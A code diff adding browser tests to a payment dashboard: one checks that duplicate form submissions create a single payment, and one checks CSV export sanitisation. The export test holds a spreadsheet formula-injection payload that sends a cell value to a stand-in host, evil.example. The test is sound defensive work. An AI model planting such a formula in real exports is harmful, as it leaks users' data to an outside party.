@@ -2,7 +2,9 @@ import { mkdir } from 'node:fs/promises';
 import type { Server } from 'node:http';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { eq } from 'drizzle-orm';
 import { createMerchant } from '../../api/merchants.js';
+import { payments } from '../../db/schema.js';
 import { listen } from '../../api/server.js';
 import { dashboardHandler, ensureDashboardBuilt } from '../../web/serve.js';
 import { startTestSystem, type TestSystem } from '../harness.js';
@@ -109,6 +111,52 @@ describe('dashboard in headless Chromium', () => {
       churning = false;
       await churn;
     }
+  });
+
+  it('a double click, or the same form sent twice, creates one payment', async () => {
+    await page.goto(`${web.url}/payments/new`);
+    const clicked = `double-click-${Date.now()}`;
+    await page.getByLabel('Description').fill(clicked);
+    await page.getByLabel('Delay (seconds)').fill('600');
+    await page.getByRole('button', { name: 'Create payment' }).dblclick();
+    await page.waitForURL(/\/payments\/pay_/);
+    // Without JavaScript (or with a retrying proxy) the form arrives twice, with the key it was served with.
+    const html = await (await fetch(`${web.url}/payments/new`)).text();
+    const formKey = /name="formKey" value="([0-9a-f-]{36})"/.exec(html)?.[1];
+    expect(formKey).toBeDefined();
+    const resent = `resent-${Date.now()}`;
+    const post = () =>
+      fetch(`${web.url}/payments/new`, {
+        method: 'POST',
+        redirect: 'manual',
+        headers: { origin: web.url, accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded' },
+        body: new URLSearchParams({ formKey: formKey!, amount: '3.00', currency: 'EUR', delaySeconds: '600', description: resent, data: '{}' }),
+      });
+    const answers = await Promise.all([post(), post()]);
+    expect(answers.map((r) => r.status)).toEqual([303, 303]);
+    expect(answers[0]!.headers.get('location')).toBe(answers[1]!.headers.get('location'));
+    const rows = async (description: string) => (await system.database.db.select({ id: payments.id }).from(payments).where(eq(payments.description, description))).length;
+    expect(await rows(clicked)).toBe(1);
+    expect(await rows(resent)).toBe(1);
+    // Negative control: the same form without its key is two payments, so the count above can fail.
+    const keyless = `keyless-${Date.now()}`;
+    const send = () =>
+      fetch(`${web.url}/payments/new`, {
+        method: 'POST',
+        redirect: 'manual',
+        headers: { origin: web.url, accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded' },
+        body: new URLSearchParams({ amount: '3.00', currency: 'EUR', delaySeconds: '600', description: keyless, data: '{}' }),
+      });
+    await Promise.all([send(), send()]);
+    expect(await rows(keyless)).toBe(2);
+  });
+
+  it('exports CSV with formulas neutralised', async () => {
+    const description = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await system.trpc.payments.create.mutate({ amount: 100, currency: 'EUR', delaySeconds: 600, description });
+    const csv = await (await fetch(`${web.url}/payments.csv`)).text();
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 
   it('shows the overview with counts, the chart and what needs attention', async () => {
